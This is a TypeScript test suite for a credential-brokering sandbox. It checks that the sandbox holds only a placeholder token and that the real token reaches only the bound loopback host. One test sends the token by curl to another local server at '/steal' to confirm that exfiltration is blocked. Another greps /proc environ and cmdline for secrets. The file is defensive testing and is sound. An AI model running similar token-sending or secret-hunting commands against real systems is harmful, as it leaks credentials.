// Brokered credentials from inside a real session: the agent holds only a placeholder;
// the bound destination receives the real value; the placeholder sent elsewhere is
// refused and flagged; neither the real value nor the gateway CA key is anywhere the
// sandbox can read. Only loopback servers the test starts.
import { describe, it, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { createServer, type Server } from 'node:http';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { randomBytes } from 'node:crypto';
import { Session } from '../../src/session/index.ts';
import { makeRepo, tmp, cleanup } from '../helpers.ts';

const REAL = `ghp_${randomBytes(18).toString('hex')}`;
let home: string;
let repo: string;
let bound: Server;
let other: Server;
let session: Session;
const seen: { bound: string[]; other: string[] } = { bound: [], other: [] };
let bp = 0;
let op = 0;

describe('credential broker inside a session', () => {
  before(async () => {
    home = tmp('airlock-home-');
    repo = makeRepo();
    bound = createServer((req, res) => {
      seen.bound.push(String(req.headers.authorization ?? ''));
      res.end('ok\n');
    });
    other = createServer((req, res) => {
      seen.other.push(String(req.headers.authorization ?? ''));
      res.end('other\n');
    });
    await new Promise<void>((r) => bound.listen(0, '127.0.0.1', r));
    await new Promise<void>((r) => other.listen(0, '127.0.0.1', r));
    bp = (bound.address() as { port: number }).port;
    op = (other.address() as { port: number }).port;
    const pf = join(home, 'p.yaml');
    writeFileSync(
      pf,
      `egress:
  allow:
    - { id: api, host: localhost, ports: [${bp}, ${op}], schemes: [http] }
  allowCidrs:
    - { id: loopback, cidr: 127.0.0.1/32, ports: [${bp}, ${op}] }
credentials:
  brokered:
    - name: GH_TOKEN
      source: { env: AIRLOCK_TEST_GH_TOKEN }
      destinations: [{ host: localhost, port: ${bp} }]
      inject: { header: Authorization, template: "Bearer {value}" }
`,
    );
    session = await Session.open({ repo, home, policyFile: pf, env: { ...process.env, AIRLOCK_TEST_GH_TOKEN: REAL } });
  });
  after(async () => {
    await session.stop('test');
    bound.close();
    other.close();
    cleanup(home, repo);
  });

  it('the sandbox holds a placeholder; the bound destination gets the real value', async () => {
    const env = await session.run(['printenv', 'GH_TOKEN']);
    assert.match(env.stdout.trim(), /^airlock-ph-/);
    assert.ok(!env.stdout.includes(REAL));
    const r = await session.run([
      'bash',
      '-c',
      `curl -sS --noproxy '' -H "Authorization: Bearer $GH_TOKEN" http://localhost:${bp}/user`,
    ]);
    assert.equal(r.stdout, 'ok\n', r.stderr);
    assert.deepEqual(seen.bound, [`Bearer ${REAL}`]);
  });

  it('the placeholder sent to another host is refused and flagged; that host gets nothing', async () => {
    const r = await session.run([
      'bash',
      '-c',
      `curl -s --noproxy '' -o /dev/null -w '%{http_code}' -H "Authorization: Bearer $GH_TOKEN" http://localhost:${op}/steal`,
    ]);
    assert.equal(r.stdout, '403');
    assert.deepEqual(seen.other, []);
    const f = session.store.query({ session: session.id, type: 'detect.finding' });
    assert.ok(
      f.some((e) => e.severity === 'high' || e.severity === 'critical'),
      'high-severity finding',
    );
    assert.ok(
      !JSON.stringify(session.store.query({ session: session.id })).includes(REAL),
      'real value never in the audit log',
    );
  });

  it('neither the real value nor the gateway CA key is readable anywhere in the sandbox', async () => {
    const keyPem = readFileSync(join(home, 'keys', 'gateway-ca.key'), 'utf8');
    const keyMarker = keyPem.split('\n').find((l) => l.length > 40 && !l.startsWith('-----'))!;
    const needles = `${REAL}\n${keyMarker}\n`;
    // Everything Airlock puts in or shares with the sandbox: workspace, home, tmp, /etc
    // (incl. the CA bundle), /run, and every process's environment and command line.
    // /usr, /lib, /opt are the host's read-only system trees, untouched by Airlock.
    // The needles come in on stdin (never in an argv the /proc walk would find).
    const walk =
      'N=$(cat); grep -r -l -F -f <(printf "%s" "$N") /workspace /home /tmp /var/tmp /etc /run 2>/dev/null; ' +
      'for p in /proc/[0-9]*; do cat $p/environ $p/cmdline 2>/dev/null | tr "\\0" "\\n" | grep -q -F -f <(printf "%s" "$N") && echo "in $p"; done; echo walked';
    const h = await session.exec({ argv: ['bash', '-c', walk] });
    let out = '';
    h.stdout?.on('data', (d: Buffer) => {
      out += d.toString();
    });
    h.stdin?.end(needles);
    await h.done;
    const r = { stdout: out };
    assert.equal(r.stdout.trim(), 'walked', `found: ${r.stdout}`);
    const bundle = await session.run(['grep', '-c', 'BEGIN CERTIFICATE', '/etc/ssl/certs/ca-certificates.crt']);
    assert.ok(Number(bundle.stdout) > 1, 'the CA bundle is in place');
  });
});
